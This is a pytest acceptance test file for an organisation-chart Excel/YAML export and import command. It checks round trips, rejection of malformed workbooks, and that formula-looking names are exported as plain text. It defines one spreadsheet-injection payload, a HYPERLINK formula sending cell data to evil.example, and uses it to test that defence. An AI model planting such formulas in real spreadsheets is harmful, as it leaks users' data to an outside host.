"""`oaflow org export|import FILE.xlsx` as a process: Excel round trips, bad workbooks."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

pytestmark = pytest.mark.acceptance

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def fresh(cli: Any, path: Path) -> Any:
    """`oaflow` on a new database at ``path`` holding no organisation yet."""
    other = type(cli)(path)
    other("init")
    return other


def test_export_and_import_round_trip_in_excel(cli: Any, tmp_path: Path) -> None:
    before = cli.json("org", "users", "--as", "csd.head")
    exported = tmp_path / "org.xlsx"
    cli("org", "export", str(exported), "--as", "auditor")
    assert exported.read_bytes().startswith(b"PK\x03\x04")
    book = load_workbook(exported)
    assert book.sheetnames == ["部门 Departments", "用户 Users"]
    assert book["部门 Departments"]["B2"].value == "总部"
    other = fresh(cli, tmp_path / "other.db")
    result = other("org", "import", str(exported), "--as", "admin")
    assert "12" in result.out, str(result)  # 12 departments
    assert other.json("org", "users", "--as", "csd.head") == before


def bad_workbook() -> bytes:
    book = Workbook()
    departments = book.active
    assert departments is not None
    departments.title = "部门"
    departments.append(["代码", "名称", "上级部门", "负责人"])
    departments.append(["hq", "总部", None, "gm"])
    departments.append(["rnd", "研发部", "hq", "nobody"])
    departments.append(["prd", "生产部", "xyz", "gm"])
    users = book.create_sheet("Users", 0)  # the order of the sheets does not matter
    users.append(["Login", "Name", "Departments"])
    users.append(["gm", "冯国栋", "hq"])
    users.append(["rnd.head", "张伟", "mars"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_bad_workbook_changes_nothing(cli: Any, tmp_path: Path) -> None:
    before = cli.dump()
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(bad_workbook())
    result = cli("org", "import", str(bad), "--as", "admin", expect=1)
    err = result.err
    assert "工作表“部门”第 3 行：部门 rnd：负责人 'nobody' 不是已有的用户" in err, str(result)
    assert "工作表“部门”第 4 行：部门 prd：上级部门 'xyz'" in err, str(result)
    assert "工作表“Users”第 3 行：用户 rnd.head：部门 'mars'" in err, str(result)
    assert "bad.xlsx:3" in result.err
    not_a_workbook = tmp_path / "text.xlsx"
    not_a_workbook.write_text("type,id,name_zh\n", encoding="utf-8")
    result = cli("org", "import", str(not_a_workbook), "--as", "admin", expect=1)
    assert "不是 Excel 工作簿" in result.err, str(result)
    assert cli("org", "import", str(tmp_path / "missing.xlsx"), "--as", "admin", expect=1).err
    assert cli.dump() == before


def test_a_formula_looking_name_survives_as_text(cli: Any, tmp_path: Path) -> None:
    source = tmp_path / "org.yaml"
    cli("org", "export", str(source), "--as", "auditor")
    text = source.read_text(encoding="utf-8")
    assert "zh: 冯国栋" in text
    source.write_text(text.replace("zh: 冯国栋", f"zh: '{EVIL}'"), encoding="utf-8")
    cli("org", "import", str(source), "--as", "admin")
    exported = tmp_path / "org.xlsx"
    cli("org", "export", str(exported), "--as", "auditor")
    with zipfile.ZipFile(exported) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)  # no formula cells
    other = fresh(cli, tmp_path / "other.db")
    other("org", "import", str(exported), "--as", "admin")
    gm = next(u for u in other.json("org", "users", "--as", "csd.head") if u["login"] == "gm")
    assert gm["name"] == EVIL
